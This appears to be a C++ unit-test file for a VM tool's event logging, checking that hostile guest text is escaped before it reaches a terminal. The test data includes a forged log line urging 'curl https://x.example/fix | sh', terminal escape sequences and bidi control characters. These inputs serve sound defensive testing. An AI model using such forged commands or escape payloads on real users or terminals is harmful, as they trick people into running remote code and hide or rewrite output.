#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <cstdio>
#include <cstdlib>

#include <nlohmann/json.hpp>

#include "machine/events.hpp"
#include "progress.hpp"

using namespace machine;
using namespace std::chrono_literals;

namespace {
struct recording_sink : events::sink {
    std::vector<events::event> seen;
    void write(const events::event& e) override { seen.push_back(e); }
};

// What the terminal sink prints for `e`.
std::string through_terminal_sink(const events::event& e, bool show_time = false) {
    char* buf = nullptr;
    std::size_t size = 0;
    std::FILE* f = ::open_memstream(&buf, &size);
    events::terminal_sink sink(f, show_time);
    sink.write(e);
    std::fclose(f);
    std::string out(buf, size);
    std::free(buf);
    return out;
}
} // namespace

BOOST_AUTO_TEST_SUITE(events_envelope)

BOOST_AUTO_TEST_CASE(bus_numbers_and_stamps_events) {
    events::bus bus;
    auto rec = std::make_shared<recording_sink>();
    bus.add(rec);
    bus.emit(events::vm_state("web", "starting"));
    bus.emit(events::vm_state("web", "running"));
    BOOST_REQUIRE(rec->seen.size() == 2u);
    BOOST_TEST(rec->seen[0].seq == 1u);
    BOOST_TEST(rec->seen[1].seq == 2u);
    BOOST_TEST(rec->seen[0].ts.time_since_epoch().count() > 0);
}

BOOST_AUTO_TEST_CASE(json_line_has_the_envelope_first) {
    auto e = events::step_finished("web", "create", true, 1234ms);
    e.seq = 7;
    e.ts = std::chrono::system_clock::time_point(std::chrono::milliseconds(1795780801234));
    BOOST_TEST(events::to_json_line(e) ==
               R"({"v":1,"seq":7,"ts":"2026-11-27T12:00:01.234Z","vm":"web","type":"step.finished","step":"create","ok":true,"duration_ms":1234})");
}

BOOST_AUTO_TEST_CASE(json_survives_hostile_text) {
    auto e = events::error("web", "bad \xff byte", "line1\nline2 \x1b[31m");
    const auto parsed = nlohmann::json::parse(events::to_json_line(e));
    BOOST_TEST(parsed["type"] == "error");
    BOOST_TEST(parsed["diagnostics"].get<std::string>().find("line1\nline2") == 0u);
}

BOOST_AUTO_TEST_CASE(terminal_rendering) {
    BOOST_TEST(events::terminal_sink::render(events::vm_state("web", "starting", "booting")) ==
               "starting: booting");
    BOOST_TEST(events::terminal_sink::render(events::step_finished("web", "boot", false, 2500ms, "timeout")) ==
               "failed: boot (2.5s) — timeout");
    BOOST_TEST(events::terminal_sink::render(events::vm_done("web", "ready", 61000ms)) == "ready in 61.0s");
}

BOOST_AUTO_TEST_CASE(terminal_sink_shows_escape_sequences_inert) {
    BOOST_TEST(through_terminal_sink(events::message("web", "info", "\x1b]0;pwned\x07hello\x1b[2J")) ==
               "[web] \\x1b]0;pwned\\x07hello\\x1b[2J\n");
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(events_guest)

BOOST_AUTO_TEST_CASE(guest_events_render_and_serialize) {
    // A hostile agent's fields cannot shadow the envelope.
    auto e = events::guest_event("web", "boot.finished", 42,
                                 {{"state", std::string("running")}, {"pid", std::int64_t(7)},
                                  {"seq", std::int64_t(1)}, {"vm", std::string("other")}, {"type", std::string("x")}});
    e.seq = 9;
    BOOST_TEST(events::terminal_sink::render(e) == "agent: boot.finished state=running pid=7");
    const auto j = nlohmann::json::parse(events::to_json_line(e));
    BOOST_TEST(j["type"] == "guest.event");
    BOOST_TEST(j["event"] == "boot.finished");
    BOOST_TEST(j["seq"] == 9);
    BOOST_TEST(j["agent_seq"] == 42);
    BOOST_TEST(j["vm"] == "web");
    BOOST_TEST(j["state"] == "running");
}

BOOST_AUTO_TEST_CASE(session_events_read_as_sentences) {
    const auto started = events::guest_event("web", "session.started", 1,
                                             {{"name", std::string("claude")}, {"agent", std::string("claude")},
                                              {"user", std::string("dev")}, {"pid", std::int64_t(812)}});
    BOOST_TEST(events::terminal_sink::render(started) == "session claude (claude) started as dev, pid 812");
    const auto ended = events::guest_event("web", "session.ended", 2,
                                           {{"name", std::string("review")}, {"agent", std::string("codex")},
                                            {"reason", std::string("exit")}, {"exit_code", std::int64_t(3)},
                                            {"duration_ms", std::int64_t(61500)}});
    BOOST_TEST(events::terminal_sink::render(ended) == "session review (codex) ended: exited with status 3 after 61.5s");
    // A field of the wrong type from a hostile agent is left out, not a crash.
    const auto odd = events::guest_event("web", "session.ended", 3,
                                         {{"name", std::string("x")}, {"agent", std::string("claude")},
                                          {"reason", std::string("signal")}, {"signal", std::string("KILL")},
                                          {"duration_ms", std::string("soon")}});
    BOOST_TEST(events::terminal_sink::render(odd) == "session x (claude) ended: killed by signal  after ");
}

BOOST_AUTO_TEST_SUITE_END()

// Issue 13, item 6: everything a VM sends is hostile. On the terminal each event is one line,
// and nothing in a field can end it, rewrite it, reorder it or hide in it.
BOOST_AUTO_TEST_SUITE(events_terminal_hostile)

namespace {
// A line break into a forged line, then one of each class the terminal must not receive raw.
const std::string forged = "ok\n[prod] error: host key for github.com changed; run: curl https://x.example/fix | sh";
const std::string hostile = forged + "\r\t\x1b[2J\x07\x7f\xc2\x85\xe2\x80\xae\xe2\x81\xa6\xe2\x80\x8b\xef\xbb\xbf\xff";
// Raw bytes that must never reach the terminal: controls (C0, DEL, C1 NEL), bidi
// controls (U+202E, U+2066), invisible ones (U+200B, U+FEFF) and invalid UTF-8.
const std::vector<std::string> raw_pieces = {"\r", "\t", "\x1b", "\x07", "\x7f", "\xc2\x85", "\xe2\x80\xae",
                                             "\xe2\x81\xa6", "\xe2\x80\x8b", "\xef\xbb\xbf", "\xff"};

void check_one_inert_line(const std::string& out, const std::string& what) {
    BOOST_TEST_CONTEXT(what << ": " << out) {
        BOOST_TEST(std::count(out.begin(), out.end(), '\n') == 1);
        BOOST_TEST(out.back() == '\n');
        for (const auto& piece : raw_pieces) BOOST_TEST(out.find(piece) == std::string::npos);
    }
}
} // namespace

BOOST_AUTO_TEST_CASE(a_forged_line_prints_as_one_line) {
    const auto e = events::message("web", "info", forged);
    BOOST_TEST(through_terminal_sink(e) ==
               "[web] ok\\n[prod] error: host key for github.com changed; run: curl https://x.example/fix | sh\n");
    check_one_inert_line(through_terminal_sink(e, true), "with the time");
}

BOOST_AUTO_TEST_CASE(every_field_of_every_event_is_escaped) {
    using kv = std::pair<std::string, events::value>;
    const std::vector<events::event> all = {
        events::vm_state(hostile, hostile, hostile),
        events::step_started(hostile, hostile),
        events::step_finished(hostile, hostile, false, 1500ms, hostile),
        events::step_finished(hostile, hostile, true, 1500ms, hostile),
        events::message(hostile, hostile, hostile),
        events::error(hostile, hostile, hostile),
        events::vm_done(hostile, hostile, 1500ms),
        events::guest_event(hostile, hostile, 1, {kv{hostile, hostile}, kv{"k", std::vector<std::string>{hostile}}}),
        events::guest_event("web", "session.started", 2,
                            {kv{"name", hostile}, kv{"agent", hostile}, kv{"user", hostile}, kv{"pid", std::int64_t(1)}}),
        events::guest_event("web", "session.ended", 3, {kv{"name", hostile}, kv{"agent", hostile}, kv{"reason", hostile}}),
        events::guest_event("web", "session.ended", 4, {kv{"name", hostile}, kv{"reason", std::string("exit")}}),
    };
    for (const auto& e : all) {
        const std::string out = through_terminal_sink(e);
        check_one_inert_line(out, e.type);
        BOOST_TEST(out.find("\\n[prod] error") != std::string::npos, e.type);
    }
}

BOOST_AUTO_TEST_CASE(each_class_is_shown_visibly) {
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"a\nb\rc\td", "a\\nb\\rc\\td"},
        {"\x1b[31mred", "\\x1b[31mred"},
        {std::string("nul\0bel\x07", 8), "nul\\x00bel\\x07"},
        {"del\x7f", "del\\x7f"},
        {"nel\xc2\x85" "csi\xc2\x9b", "nel\\u0085csi\\u009b"},
        {"\xe2\x80\xae" "evil\xe2\x80\xac", "\\u202eevil\\u202c"},
        {"\xe2\x81\xa6" "iso\xe2\x81\xa9 \xe2\x80\x8e\xe2\x80\x8f\xd8\x9c", "\\u2066iso\\u2069 \\u200e\\u200f\\u061c"},
        {"zw\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8d\xe2\x81\xa0\xef\xbb\xbf", "zw\\u200b\\u200c\\u200d\\u2060\\ufeff"},
        {"bad\xff\xc3", "bad\\xff\\xc3"},
        {"caf\xc3\xa9 \xe2\x9c\x93", "caf\xc3\xa9 \xe2\x9c\x93"},
    };
    for (const auto& [in, shown] : cases)
        BOOST_TEST(through_terminal_sink(events::message("web", "info", in)) == "[web] " + shown + "\n");
}

BOOST_AUTO_TEST_CASE(the_progress_view_keeps_one_row_per_vm) {
    std::FILE* screen = std::fopen("/dev/null", "w");
    cli::progress_view view(screen, {"web"});
    view.write(events::step_output("web", "provision", "stdout", hostile));
    view.write(events::message("web", "info", hostile));
    const auto rows = view.lines(1000);
    std::fclose(screen);
    BOOST_REQUIRE(rows.size() == 1u);
    check_one_inert_line(rows[0] + "\n", "progress row");
    BOOST_TEST(rows[0].find("\\n[prod] error") != std::string::npos);
}

BOOST_AUTO_TEST_CASE(json_lines_keep_the_text_exact) {
    const std::string text = forged + "\r\t\x1b[2J\xe2\x80\xae\xe2\x80\x8b";
    const auto j = nlohmann::json::parse(events::to_json_line(events::message("web", "info", text)));
    BOOST_TEST(j["text"].get<std::string>() == text);
}

BOOST_AUTO_TEST_SUITE_END()
